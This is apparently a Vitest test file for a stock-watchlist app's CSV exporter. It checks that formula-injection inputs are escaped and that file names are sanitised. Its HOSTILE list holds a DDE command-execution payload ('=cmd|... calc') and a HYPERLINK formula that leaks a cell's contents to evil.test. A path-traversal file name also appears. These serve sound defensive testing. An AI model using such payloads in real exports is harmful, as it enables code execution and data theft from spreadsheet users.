import { describe, expect, it } from 'vitest';
import { csv, csvFile, type CellValue } from '../../src/lib/csv';
import { fileName } from '../../src/lib/download';

/** Starts of formulas, as a spreadsheet, or a trick with it, takes them. */
const HOSTILE = [
  ...[
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\0=1',
    '\tA1',
    '\rA1',
    '\nA1',
    '\0A1',
    ' =1',
    '  +1',
    '\u00a0=1',
    '\u200b=1',
  ],
  ...[
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?x="&A1,"x")',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '-2+3',
  ],
];

/** Texts that only look like them. */
const TAME = [
  'HPG',
  'Hòa Phát',
  '−1',
  '%0A=1',
  '|=1',
  ';=1',
  ',=1',
  '"=1"',
  'a","=1',
  'a=1',
  '',
  '1-2',
  'a\r\n=1',
];

/** What a spreadsheet reads: quoted or not, two quotes for one, commas between cells, CRLF between rows. */
function read(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y;
  while (cell.lastIndex < text.length) {
    const found = cell.exec(text);
    if (!found) throw new Error(`Not CSV: ${JSON.stringify(text)}`);
    const [, quoted, bare = '', end] = found;
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? bare);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

const written = (...cells: CellValue[]) => csv(['a'], [cells]).slice('\uFEFFa\r\n'.length, -2);

describe('a CSV file', () => {
  it('begins with the mark of UTF-8, and ends every row with CRLF', async () => {
    expect(csv(['Mã', 'Giá'], [['HPG', 26.9]])).toBe('\uFEFFMã,Giá\r\nHPG,26.9\r\n');
    const bytes = new Uint8Array(await csvFile('a.csv', ['Mã'], []).arrayBuffer());
    expect([...bytes.slice(0, 5)]).toEqual([0xef, 0xbb, 0xbf, 0x4d, 0xc3]);
  });

  it('is detected', () => {
    const { name, type } = csvFile('nhip.csv', ['a'], []);
    expect([name, type]).toEqual(['nhip.csv', 'text/csv;charset=utf-8']);
  });

  it('quotes what parts cells in any country, and doubles quotes', () => {
    expect(written('a,b')).toBe('"a,b"');
    expect(written('a;b', 'c\td')).toBe('"a;b","c\td"');
    expect(written('say "a"')).toBe('"say ""a"""');
    expect(written('a\r\nb')).toBe('"a\r\nb"');
    expect(written('Thép & ống')).toBe('Thép & ống');
  });

  it.each(HOSTILE)('takes its meaning from the formula %j, and keeps its text', (text) => {
    expect(read(csv(['a', 'b'], [[text, 'x']]).slice(1))).toEqual([
      ['a', 'b'],
      [`'${text}`, 'x'],
    ]);
  });

  it('does so in a header too', () => {
    expect(csv(['=A1'], [])).toBe("\uFEFF'=A1\r\n");
  });

  it.each(TAME)('gives back %j as it was', (text) => {
    expect(read(csv(['a', 'b'], [[text, 'x']]).slice(1))[1]).toEqual([text, 'x']);
  });

  it('writes a figure in full, with a dot, never as a formula', () => {
    expect(written(-1.5, 0, 26.75, 1234567.891, 0.1 + 0.2)).toBe(
      '-1.5,0,26.75,1234567.891,0.30000000000000004',
    );
    expect(written(1e21, 1.5e-7, -0)).toBe('1000000000000000000000,0.00000015,0');
  });

  it('leaves empty what is not known', () => {
    expect(written(null, NaN, Infinity, 'x')).toBe(',,,x');
  });
});

describe('the name of a file', () => {
  it.each([
    [['watchlist', 'Lướt sóng T+', '2026-08-27'], 'nhip-watchlist-luot-song-t-2026-08-27.csv'],
    [['watchlist', 'Đầu tư / ../../etc', '2026-08-27'], 'nhip-watchlist-dau-tu-etc-2026-08-27.csv'],
    [['watchlist', '株', '2026-08-27'], 'nhip-watchlist-2026-08-27.csv'],
    [['watchlist', 'a'.repeat(200)], `nhip-watchlist-${'a'.repeat(60)}.csv`],
    [['candles', 'HPG'], 'nhip-candles-hpg.csv'],
  ])('of %j is %s', (parts, name) => {
    expect(fileName(parts, 'csv')).toBe(name);
  });
});
